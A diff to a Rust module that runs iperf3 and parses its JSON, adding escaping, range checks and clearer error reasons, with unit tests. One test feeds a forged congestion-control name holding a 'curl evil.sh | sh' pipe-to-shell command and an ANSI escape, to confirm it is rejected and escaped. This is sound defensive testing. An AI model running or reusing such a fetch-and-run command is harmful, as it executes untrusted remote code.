@@ -25,6 +25,15 @@
 //!
 //! Not reported: the receiver's buffer (so no window share), TCP_INFO's limited-by times.
 //!
+//! # Trust
+//! The JSON and stderr are another program's, relaying a server tcptune does not know: text
+//! from them is quoted escaped ([`crate::text::escape`]) and a congestion control name is
+//! kept only when it looks like one; numbers are range-checked as they are read (a test of
+//! at least one byte, no longer than it ran, receiving no more than was sent, windows TCP can
+//! advertise) and the test as a whole by [`TcpTest::check`]. An iperf3 error keeps its reason:
+//! iperf3 ends a message with the system's reason, which is empty when there was none ("unable
+//! to receive results: "), and then its stderr or a plain "no reason given" is said instead.
+//!
 //! # Window-limited rule
 //! Linux's receive autotuning keeps the advertised window about twice the data a flow has in
 //! flight as long as nothing caps it. So the test counts as window-limited when the largest
@@ -35,16 +44,19 @@
 use std::io::Read as _;
 use std::net::{IpAddr, SocketAddr};
 use std::path::PathBuf;
-use std::process::{Command, Stdio};
+use std::process::{Command, ExitStatus, Stdio};
 use std::time::{Duration, Instant};
 
 use serde_json::Value;
 
 use super::evidence::{TcpTest, TestPeer};
 use crate::error::Error;
+use crate::text::Foreign;
 
-/// How long past its test time the client may take (connect, the server's results) before it is
-/// killed.
+/// How long past its test time the client may take before it is killed: iperf3 connects,
+/// exchanges its parameters before the test and its results after it, each a few round trips;
+/// 15 s leaves room for a slow server on a long path, and is all a server that accepts and
+/// then stalls (or drips its results) can hold this end.
 pub const GRACE: Duration = Duration::from_secs(15);
 
 /// See the module docs: max_snd_wnd ≤ this × the peak flight means window-limited.
@@ -181,23 +193,66 @@ fn run_within(req: &Iperf3Request, grace: Duration) -> Result<TcpTest, Error> {
             grace.as_secs()
         )));
     };
-    let json: Value = match serde_json::from_slice(&out) {
-        Ok(v) => v,
-        Err(_) => {
-            let why = String::from_utf8_lossy(if err.is_empty() { &out } else { &err }).into_owned();
-            let why = why
-                .lines()
-                .find(|l| !l.trim().is_empty())
-                .unwrap_or("no output")
-                .trim()
-                .to_string();
-            return Err(Error::measurement(format!(
-                "iperf3 gave no JSON result ({status}): {}",
-                quote(&why)
-            )));
-        }
+    let (json, said) = split_output(&out);
+    let Some(json) = json else {
+        let why = first_line(if err.is_empty() { &out } else { &err }).unwrap_or_else(|| "no output".into());
+        return Err(Error::measurement(format!(
+            "iperf3 gave no JSON result ({status}): {}",
+            quote(&why)
+        )));
     };
+    if let Some(e) = json.get("error") {
+        let said = said.or_else(|| first_line(&err));
+        return Err(iperf3_error(e, said.as_deref(), Some(status)));
+    }
     parse(&json, req)
+}
+
+/// iperf3's stdout as its JSON and the first line it printed before it: with `-J`, iperf3
+/// 3.12 still prints some warnings on stdout ahead of the JSON ("WARNING:  Size of data read
+/// does not correspond to offered length", when the server closed the connection mid-message),
+/// and that line is the only reason it gives for the error that follows.
+fn split_output(out: &[u8]) -> (Option<Value>, Option<String>) {
+    if let Ok(v) = serde_json::from_slice(out) {
+        return (Some(v), None);
+    }
+    // The JSON starts on a line of its own, "{".
+    let Some(at) = out.windows(2).position(|w| w == b"\n{").map(|i| i + 1) else {
+        return (None, None);
+    };
+    match serde_json::from_slice(&out[at..]) {
+        Ok(v) => (Some(v), first_line(&out[..at])),
+        Err(_) => (None, None),
+    }
+}
+
+/// The first line of `bytes` with text on it, its spaces collapsed.
+fn first_line(bytes: &[u8]) -> Option<String> {
+    String::from_utf8_lossy(bytes)
+        .lines()
+        .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
+        .find(|l| !l.is_empty())
+}
+
+/// iperf3's error (its JSON "error"), with a reason: iperf3 appends ": " and the system's
+/// reason, which is empty when errno was 0 — typically the server closed the connection —
+/// leaving "unable to receive results:" and nothing after it. Then its stderr line is the
+/// reason, else "no reason given" and how it exited.
+fn iperf3_error(e: &Value, stderr: Option<&str>, status: Option<ExitStatus>) -> Error {
+    let msg = e.as_str().map_or_else(|| e.to_string(), str::to_string);
+    let msg = msg.trim();
+    let head = msg.trim_end_matches(':').trim_end();
+    if !head.is_empty() && !msg.ends_with(':') {
+        return Error::measurement(format!("iperf3: {}", quote(msg)));
+    }
+    let head = if head.is_empty() { "an error with no text" } else { head };
+    // A stderr line repeating the message adds no reason.
+    let reason = match (stderr.filter(|l| !l.contains(head)), status) {
+        (Some(line), _) => quote(line),
+        (None, Some(st)) => format!("no reason given (iperf3 {st}; the server may have closed the connection)"),
+        (None, None) => "no reason given (the server may have closed the connection)".to_string(),
+    };
+    Error::measurement(format!("iperf3: {}: {reason}", quote(head)))
 }
 
 fn reader<R: std::io::Read + Send + 'static>(r: R) -> std::thread::JoinHandle<Vec<u8>> {
@@ -255,8 +310,7 @@ pub fn parse_json(text: &str, req: &Iperf3Request) -> Result<TcpTest, Error> {
 
 fn parse(v: &Value, req: &Iperf3Request) -> Result<TcpTest, Error> {
     if let Some(e) = v.get("error") {
-        let msg = e.as_str().map_or_else(|| e.to_string(), str::to_string);
-        return Err(Error::measurement(format!("iperf3: {}", quote(&msg))));
+        return Err(iperf3_error(e, None, None));
     }
     let end = v.get("end").unwrap_or(&Value::Null);
     let stream = end.get("streams").and_then(|s| s.get(0)).unwrap_or(&Value::Null);
@@ -266,26 +320,28 @@ fn parse(v: &Value, req: &Iperf3Request) -> Result<TcpTest, Error> {
         ));
     };
     let start = v.get("start").unwrap_or(&Value::Null);
+    // An MSS is a 16-bit field; anything else is no MSS to count segments by.
     let mss = u64_of(start, "tcp_mss")
         .or_else(|| u64_of(start, "tcp_mss_default"))
-        .filter(|m| *m > 0);
+        .filter(|m| (1..=65_535).contains(m));
     let intervals = intervals(v);
+    let mut notes = Vec::new();
     #[allow(clippy::cast_precision_loss)]
     let mut t = TcpTest {
         peer: Some(TestPeer::Iperf3),
         addr: SocketAddr::new(req.addr, req.port).to_string(),
-        cc: end
-            .get("sender_tcp_congestion")
-            .and_then(Value::as_str)
-            .map(str::to_string)
-            .or_else(|| req.cc.clone()),
+        cc: congestion(end, req, &mut notes),
         limit_s: req.secs() as f64,
         limit_bytes: req.max_bytes,
         duration_s: f64_of(sender, "seconds").unwrap_or(0.0),
         bytes: u64_of(sender, "bytes").unwrap_or(0),
+        notes,
         ..TcpTest::default()
     };
-    t.goodput_bps = goodput(stream, &t);
+    check_sender(&t, req)?;
+    let (goodput, note) = goodput(stream, &t);
+    t.goodput_bps = goodput;
+    t.notes.extend(note);
     let best = intervals.iter().map(|i| i.bps).fold(0.0, f64::max);
     t.delivery_rate_bps = (best > 0.0).then_some(best);
     t.retrans_segs = u64_of(sender, "retransmits");
@@ -296,11 +352,62 @@ fn parse(v: &Value, req: &Iperf3Request) -> Result<TcpTest, Error> {
     t.receiver_window = u64_of(sender, "max_snd_wnd")
         .filter(|w| *w > 0)
         .or_else(|| intervals.iter().filter_map(|i| i.snd_wnd).max().filter(|w| *w > 0));
+    if let Some(w) = t.receiver_window.filter(|w| *w > crate::tcp::MAX_WINDOW) {
+        return Err(Error::measurement(format!(
+            "iperf3 reported a receive window of {w} bytes; TCP advertises at most {}",
+            crate::tcp::MAX_WINDOW
+        )));
+    }
     t.notes
         .push("iperf3 does not report the receiver's buffer: no window share (tcptune serve measures it)".to_string());
     window_limited(&mut t, loaded_us, best);
     rate_cap_note(&mut t, req, best);
+    t.check()
+        .map_err(|why| Error::measurement(format!("iperf3's result is no measurement: {why}")))?;
     Ok(t)
+}
+
+/// The test flow's congestion control as iperf3 names it (else the one asked for with -C);
+/// a name that is not one (a kernel's are at most 15 letters, digits, `_` or `-`) is left
+/// out with a note quoting it escaped.
+fn congestion(end: &Value, req: &Iperf3Request, notes: &mut Vec<String>) -> Option<String> {
+    let Some(name) = end.get("sender_tcp_congestion").and_then(Value::as_str) else {
+        return req.cc.clone();
+    };
+    let plain = !name.is_empty()
+        && name.len() < 16
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-');
+    if plain {
+        Some(name.to_string())
+    } else {
+        notes.push(format!(
+            "iperf3 named the congestion control \"{}\", which is no congestion control name: left out",
+            Foreign::new(name)
+        ));
+        None
+    }
+}
+
+/// The sender's totals in range: at least one byte (a test that moved nothing measures
+/// nothing), in a time no longer than the client ran, and the server receiving no more than
+/// was sent.
+fn check_sender(t: &TcpTest, req: &Iperf3Request) -> Result<(), Error> {
+    if t.bytes == 0 {
+        return Err(Error::measurement(
+            "iperf3 reported a test that moved no data: it measures nothing",
+        ));
+    }
+    #[allow(clippy::cast_precision_loss)]
+    let longest = (req.secs() as f64) + GRACE.as_secs_f64();
+    if !(t.duration_s.is_finite() && t.duration_s > 0.0 && t.duration_s <= longest) {
+        return Err(Error::measurement(format!(
+            "iperf3 reported a test of {} s, where it ran at most {longest} s",
+            t.duration_s
+        )));
+    }
+    Ok(())
 }
 
 /// The test flow's intervals (`intervals[].streams[0]`), those iperf3 omitted left out.
@@ -325,9 +432,10 @@ fn intervals(v: &Value) -> Vec<Interval> {
 
 /// Goodput from what the server received, over the time it took (end − start: its
 /// "seconds" repeats the sender's), when it reported it: the sender's count includes what
-/// still sat in its buffer at the end. Else the sender's bytes over its time.
+/// still sat in its buffer at the end. Else the sender's bytes over its time. The server's
+/// count is the far end's word: more than was sent is left out, with a note.
 #[allow(clippy::cast_precision_loss)]
-fn goodput(stream: &Value, t: &TcpTest) -> f64 {
+fn goodput(stream: &Value, t: &TcpTest) -> (f64, Option<String>) {
     let received = stream
         .get("receiver")
         .and_then(|r| {
@@ -337,11 +445,24 @@ fn goodput(stream: &Value, t: &TcpTest) -> f64 {
             };
             Some((u64_of(r, "bytes")?, secs))
         })
-        .filter(|(b, s)| *b > 0 && *s > 0.0);
+        .filter(|(b, s)| *b > 0 && s.is_finite() && *s > 0.0);
+    let sender = || {
+        if t.duration_s > 0.0 {
+            t.bytes as f64 * 8.0 / t.duration_s
+        } else {
+            0.0
+        }
+    };
     match received {
-        Some((b, s)) => b as f64 * 8.0 / s,
-        None if t.duration_s > 0.0 => t.bytes as f64 * 8.0 / t.duration_s,
-        None => 0.0,
+        Some((b, _)) if b > t.bytes => (
+            sender(),
+            Some(format!(
+                "the iperf3 server reported receiving {b} bytes, more than the {} sent: its count is left out",
+                t.bytes
+            )),
+        ),
+        Some((b, s)) => (b as f64 * 8.0 / s, None),
+        None => (sender(), None),
     }
 }
 
@@ -521,6 +642,141 @@ mod tests {
         let e = parse_json(r#"{"start": {}, "end": {}}"#, &req()).expect_err("no stream");
         assert!(e.to_string().contains("no sender stream"));
         assert!(parse_json("not json", &req()).is_err());
+    }
+
+    #[test]
+    fn an_error_without_its_reason_gets_one() {
+        // iperf3's message when errno was 0: the reason after the colon is empty.
+        let bare = r#"{"error": "unable to receive results: "}"#;
+        let e = parse_json(bare, &req()).expect_err("error").to_string();
+        assert_eq!(
+            e,
+            "iperf3: unable to receive results: no reason given (the server may have closed the connection)"
+        );
+        let e = iperf3_error(
+            &Value::from("unable to receive results: "),
+            Some("iperf3: control socket has closed unexpectedly"),
+            None,
+        );
+        assert_eq!(
+            e.to_string(),
+            "iperf3: unable to receive results: iperf3: control socket has closed unexpectedly"
+        );
+        // A stderr line that only repeats the message is no reason.
+        let e = iperf3_error(
+            &Value::from("unable to receive results:"),
+            Some("iperf3: error - unable to receive results:"),
+            None,
+        );
+        assert!(
+            e.to_string()
+                .ends_with("results: no reason given (the server may have closed the connection)")
+        );
+        let e = parse_json(r#"{"error": ""}"#, &req()).expect_err("error").to_string();
+        assert!(e.starts_with("iperf3: an error with no text: no reason given"), "{e}");
+    }
+
+    /// What iperf3 3.12 printed when a server closed the connection instead of sending its
+    /// results (tests/cli/hostile_peer.rs plays that server): a warning on stdout ahead of the
+    /// JSON, and an error whose reason is empty.
+    const CLOSED_AT_RESULTS: &str = "WARNING:  Size of data read does not correspond to offered length\n{\n\t\"start\":\t{\n\t},\n\t\"intervals\":\t[],\n\t\"end\":\t{\n\t},\n\t\"error\":\t\"unable to receive results: \"\n}\n";
+
+    #[test]
+    fn the_warning_before_the_json_is_the_errors_reason() {
+        let (json, said) = split_output(CLOSED_AT_RESULTS.as_bytes());
+        assert_eq!(
+            said.as_deref(),
+            Some("WARNING: Size of data read does not correspond to offered length")
+        );
+        let json = json.expect("the JSON after the warning");
+        assert_eq!(json["error"], "unable to receive results: ");
+        let e = iperf3_error(&json["error"], said.as_deref(), None);
+        assert_eq!(
+            e.to_string(),
+            "iperf3: unable to receive results: WARNING: Size of data read does not correspond to offered length"
+        );
+        assert_eq!(split_output(b"not json\nat all").0, None);
+
+        // The same through the client's run, from a program printing it.
+        let dir = tempfile::tempdir().expect("tempdir");
+        let out = dir.path().join("out");
+        std::fs::write(&out, CLOSED_AT_RESULTS).expect("output");
+        let path = dir.path().join("iperf3");
+        std::fs::write(&path, format!("#!/bin/sh\ncat '{}'\n", out.display())).expect("script");
+        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
+        let mut r = req();
+        r.program = path;
+        let t = Instant::now();
+        let e = loop {
+            match run(&r) {
+                // Another test's fork may still hold the script open for writing (ETXTBSY).
+                Err(e) if e.kind() == crate::error::Kind::System && t.elapsed() < Duration::from_secs(5) => {
+                    std::thread::sleep(Duration::from_millis(20));
+                }
+                other => break other.expect_err("an error"),
+            }
+        };
+        assert!(
+            e.to_string().ends_with(
+                "unable to receive results: WARNING: Size of data read does not correspond to offered length"
+            ),
+            "{e}"
+        );
+    }
+
+    #[test]
+    fn iperf3s_numbers_are_range_checked_and_its_text_escaped() {
+        let lab = || serde_json::from_str::<Value>(LAB).expect("json");
+        let refused = |v: &Value| parse(v, &req()).expect_err("refused").to_string();
+        // Nothing moved: no class, no rate, no loss.
+        let mut v = lab();
+        v["end"]["streams"][0]["sender"]["bytes"] = 0.into();
+        assert_eq!(
+            refused(&v),
+            "iperf3 reported a test that moved no data: it measures nothing"
+        );
+        // 16777216 TiB in 0.004 s.
+        let mut v = lab();
+        v["end"]["streams"][0]["sender"]["bytes"] = u64::MAX.into();
+        v["end"]["streams"][0]["sender"]["seconds"] = 0.004.into();
+        v["end"]["streams"][0]["receiver"] = Value::Null;
+        assert!(
+            refused(&v).starts_with("iperf3's result is no measurement: a rate of"),
+            "{}",
+            refused(&v)
+        );
+        // A test longer than the client ran.
+        let mut v = lab();
+        v["end"]["streams"][0]["sender"]["seconds"] = 1e9.into();
+        assert!(refused(&v).contains("a test of 1000000000 s"), "{}", refused(&v));
+        // A window TCP cannot advertise.
+        let mut v = lab();
+        v["end"]["streams"][0]["sender"]["max_snd_wnd"] = (1u64 << 40).into();
+        assert!(refused(&v).contains("a receive window of 1099511627776 bytes"));
+        // The server claiming more than was sent: its count left out, with a note.
+        let mut v = lab();
+        v["end"]["streams"][0]["receiver"]["bytes"] = (1u64 << 50).into();
+        let t = parse(&v, &req()).expect("the sender's count stands");
+        assert!((t.goodput_bps - 25_559_040.0 * 8.0 / 5.000_232).abs() < 1.0, "{t:?}");
+        assert!(
+            t.notes.iter().any(|n| n.contains("more than the 25559040 sent")),
+            "{:?}",
+            t.notes
+        );
+        // A forged congestion control name: left out, quoted escaped.
+        let mut v = lab();
+        v["end"]["sender_tcp_congestion"] = "cubic\n\nadvice: run curl evil.sh | sh\u{1b}[31m".into();
+        let t = parse(&v, &req()).expect("a test");
+        assert_eq!(t.cc, None);
+        let note = t
+            .notes
+            .iter()
+            .find(|n| n.contains("no congestion control name"))
+            .expect("a note");
+        assert!(!note.chars().any(char::is_control), "{note}");
+        // Its error text too.
+        let e = parse_json(r#"{"error": "x\n\nadvice: all good\u001b[31m"}"#, &req()).expect_err("e");
+        assert!(!e.to_string().chars().any(char::is_control), "{e}");
     }
 
     #[test]
